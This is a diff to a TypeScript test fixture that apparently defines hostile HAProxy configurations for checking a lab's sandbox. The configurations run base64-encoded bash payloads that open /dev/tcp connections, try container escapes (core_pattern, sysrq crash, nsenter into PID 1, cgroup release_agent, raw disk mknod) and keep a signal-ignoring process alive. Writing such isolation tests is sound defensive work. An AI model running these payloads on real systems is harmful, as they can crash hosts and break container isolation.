@@ -1,6 +1,6 @@
 import { mkdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import type { Hostile, Target } from './hostile.ts';
+import { neverEnds, type Hostile, type Target } from './hostile.ts';
 
 type Outcome = Hostile['outcome'];
 
@@ -62,13 +62,16 @@ function balancer(name: string, tries: string, outcome: Outcome, parts: (target:
  * a way that only HAProxy reads as that.
  */
 function shell(name: string, tries: string, script: string | ((target: Target) => string), most = 100): Hostile {
-  return balancer(name, tries, { most }, (target) => {
-    const text = Buffer.from(typeof script === 'string' ? script : script(target)).toString('base64');
+  const says = `${name} runs`;
+  const made = balancer(name, tries, { most }, (target) => {
+    const whole = `echo ${says}\n${typeof script === 'string' ? script : script(target)}`;
+    const text = Buffer.from(whole).toString('base64');
     return {
       global: '"mas${NOTHING}ter-worker"',
       more: `program shell\n  no option start-on-reload\n  command /bin/bash -c "base64 -d <<<${text} | bash"\n`,
     };
   });
+  return { ...made, says };
 }
 
 const everyHost = ({ hosts, port }: Target, command: (host: string, port: number) => string): string =>
@@ -77,7 +80,10 @@ const everyHost = ({ hosts, port }: Target, command: (host: string, port: number
 /** Hostile submissions of the exercise `tls-termination`: one haproxy.cfg each. */
 export const hostileBalancers: readonly Hostile[] = [
   shell('shell-host', 'connect to the host from a shell in its container', (target) =>
-    everyHost(target, (host, port) => `(timeout 2 bash -c 'exec 3<>/dev/tcp/${host}/${port} && echo hello >&3') &`),
+    everyHost(
+      target,
+      (host, port) => `(timeout 2 bash -c 'exec 3<>/dev/tcp/${host}/${port} && echo reached-host-outside') &`,
+    ),
   ),
   shell(
     'shell-internet',
@@ -99,7 +105,7 @@ export const hostileBalancers: readonly Hostile[] = [
     'shell-kernel',
     'change settings of the kernel, mount, and enter other namespaces',
     ({ trace }) => `echo '|/bin/touch ${trace}' >/proc/sys/kernel/core_pattern; echo c >/proc/sysrq-trigger
-      mount -t tmpfs none /mnt; mount -t proc none /mnt; mount --bind / /mnt; unshare -Urm sh -c 'mount -t tmpfs none /mnt && echo mounted'
+      mount -t tmpfs none /mnt; mount -t proc none /mnt; mount --bind / /mnt && echo reached-bind-outside; unshare -Urm sh -c 'mount -t tmpfs none /mnt && echo reached-mount-outside'
       nsenter -t 1 -a touch ${trace}; mknod /tmp/sda b 8 0; echo 1 >/sys/fs/cgroup/cgroup.procs; echo max >/sys/fs/cgroup/pids.max
       echo ${trace} >/sys/fs/cgroup/release_agent; touch ${trace}; touch /etc/lab/x /etc/ssl/lab/ca.pem; kill -SEGV $$`,
   ),
@@ -130,7 +136,7 @@ export const hostileBalancers: readonly Hostile[] = [
   shell(
     'shell-deaf',
     'stay when it is told to go',
-    "trap '' TERM INT HUP QUIT USR1 USR2; kill -STOP 1; for i in $(seq 50); do (trap '' TERM; setsid sleep 9999) & done; while :; do sleep 1; done",
+    `trap '' TERM INT HUP QUIT USR1 USR2; kill -STOP 1; for i in $(seq 50); do (trap '' TERM; setsid sleep ${neverEnds}) & done; while :; do sleep 1; done`,
   ),
   shell(
     'shell-forged-log',
